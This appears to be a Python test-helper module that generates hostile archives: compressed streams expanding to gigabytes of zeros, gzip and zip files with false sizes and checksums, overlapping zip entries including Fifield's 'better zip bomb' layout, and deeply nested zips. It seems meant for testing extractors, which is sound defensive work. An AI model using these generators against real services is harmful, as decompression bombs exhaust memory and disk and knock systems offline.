"""Packs bytes in ways that packers do not: sizes that are lies, entries that overlap, gigabytes in a few lines."""

import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import cache

MIB = 1 << 20
GIB = 1 << 30


@cache
def _zero_block() -> bytes:
    """Return a MiB of zeros as a piece of a deflate stream that can stand again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)


def deflated(head: bytes, mebibytes: int, tail: bytes = b"", fill: bytes = b"") -> bytes:
    """Return a raw deflate stream of some bytes, so many MiB of zeros (or copies of `fill`, a MiB), and other bytes."""
    block = _zero_block()
    if fill:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = packer.compress(fill) + packer.flush(zlib.Z_FULL_FLUSH)
    first, last = (zlib.compressobj(9, zlib.DEFLATED, -15) for _ in range(2))
    before = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
    return before + block * mebibytes + last.compress(tail) + last.flush()


def gzipped_zeros(mebibytes: int) -> bytes:
    """Return a gzip of zeros whose checksum nobody will come to see."""
    return (
        b"\x1f\x8b\x08\0\0\0\0\0\2\xff" + deflated(b"", mebibytes) + struct.pack("<II", 0, mebibytes * MIB % (1 << 32))
    )


def zlibbed(head: bytes, mebibytes: int, tail: bytes = b"", fill: bytes = b"") -> bytes:
    """Return the same as a zlib stream."""
    return b"\x78\xda" + deflated(head, mebibytes, tail, fill) + bytes(4)


@cache
def bzipped(mebibytes: int) -> bytes:
    """Return zeros as a bzip2 stream."""
    return bz2.compress(bytes(mebibytes * MIB))


@cache
def xzipped(mebibytes: int) -> bytes:
    """Return zeros as an xz stream."""
    return lzma.compress(bytes(mebibytes * MIB), preset=0)


def gzipped(data: bytes) -> bytes:
    """Return an honest gzip."""
    return gzip.compress(data, 9, mtime=0)


def zipped(parts: Mapping[str, bytes] | Iterable[tuple[str, bytes]], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return an honest zip; a name may come twice."""
    buffer = io.BytesIO()
    named = parts.items() if isinstance(parts, Mapping) else parts
    with zipfile.ZipFile(buffer, "w", how) as archive:
        for name, data in named:
            info = zipfile.ZipInfo(name, (2031, 4, 17, 0, 0, 0))
            # Written by hand, so that a name that comes twice is no warning.
            archive.NameToInfo.pop(name, None)
            archive.writestr(info, data, how)
    return buffer.getvalue()


@dataclass(frozen=True, slots=True)
class Entry:
    """A file of a zip, as its headers tell it; what is not given is what is true."""

    name: bytes
    packed: bytes = field(repr=False)
    size: int
    method: int = 8
    crc: int = 0
    flags: int = 0
    local_name: bytes | None = None
    local_flags: int | None = None
    said_packed: int | None = None
    said_size: int | None = None
    comment: bytes = b""
    extra: bytes = b""

    def local(self) -> bytes:
        """Return its local header and its packed bytes."""
        name = self.name if self.local_name is None else self.local_name
        flags = self.flags if self.local_flags is None else self.local_flags
        sizes = (self.crc, self._packed, self._size)
        head = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, flags, self.method, 0, 33, *sizes, len(name), 0)
        return head + name + self.packed

    def central(self, offset: int) -> bytes:
        """Return its entry of the directory."""
        sizes = (self.crc, self._packed, self._size, len(self.name), len(self.extra), len(self.comment))
        head = struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, self.flags, self.method, 0, 33, *sizes, 0, 0, 0, offset
        )
        return head + self.name + self.extra + self.comment

    @property
    def _packed(self) -> int:
        return len(self.packed) if self.said_packed is None else self.said_packed

    @property
    def _size(self) -> int:
        return self.size if self.said_size is None else self.said_size


def stored(name: bytes, data: bytes) -> Entry:
    """Return an honest entry that is not packed."""
    return Entry(name, data, len(data), method=0, crc=zlib.crc32(data))


def written(entries: Iterable[Entry], *, comment: bytes = b"", count: int | None = None) -> bytes:
    """Return a zip of entries as they say they are; `count` is how many the record at its end tells of."""
    locals_, places = bytearray(), []
    entries = list(entries)
    for entry in entries:
        places.append(len(locals_))
        locals_ += entry.local()
    directory = b"".join(entry.central(at) for entry, at in zip(entries, places, strict=True))
    return ended(bytes(locals_), directory, len(entries) if count is None else count, comment)


def ended(locals_: bytes, directory: bytes, count: int, comment: bytes = b"") -> bytes:
    """Return a zip of what stands before its directory, that, and the record at its end."""
    numbers = (count % 65536, count % 65536, len(directory), len(locals_), len(comment))
    return locals_ + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, *numbers) + comment


def overlapping_whole(count: int, mebibytes: int, pattern: str) -> bytes:
    """Return a zip whose directory has many entries for the same packed bytes."""
    names, kernel = _numbered(pattern), deflated(b"", mebibytes)
    first = Entry(next(names), kernel, mebibytes * MIB, crc=zlib.crc32(bytes(mebibytes * MIB)))
    entries = [first, *(Entry(next(names), kernel, first.size, crc=first.crc) for _ in range(count - 1))]
    return ended(first.local(), b"".join(entry.central(0) for entry in entries), count)


def overlapping_quoted(count: int, mebibytes: int, pattern: str) -> bytes:
    """Return a zip in which each file is a stored block that quotes the next local header, and then the next file.

    So did David Fifield, "A better zip bomb" (WOOT 2019): local headers do not share a place, what follows them does.
    """
    names, kernel = _numbered(pattern), deflated(b"", mebibytes)
    last = Entry(next(names), kernel, mebibytes * MIB, crc=zlib.crc32(bytes(mebibytes * MIB)))
    made, plain = [last], bytes(mebibytes * MIB)
    tail = last.local()
    for _ in range(count - 1):
        header = made[0].local()[: len(made[0].local()) - len(made[0].packed)]
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
        packed = quote + tail
        plain = header + plain
        made.insert(0, Entry(next(names), packed, len(plain), crc=zlib.crc32(plain)))
        tail = made[0].local()
    directory, at = b"", 0
    for entry in made:
        directory += entry.central(at)
        at += len(entry.local()) - len(entry.packed) + 5
    return ended(tail, directory, count)


def nested(data: bytes, levels: int, name: str = "inner.zip", ending: str = "zip") -> bytes:
    """Return bytes packed in a zip (or gzip) in a zip, and so on."""
    for _ in range(levels):
        data = (
            zipped({name: data}, zipfile.ZIP_STORED if len(data) < MIB else zipfile.ZIP_DEFLATED)
            if ending == "zip"
            else gzipped(data)
        )
    return data


def _numbered(pattern: str) -> Iterator[bytes]:
    """Yield names without end."""
    number = 0
    while True:
        yield (pattern % number).encode()
        number += 1
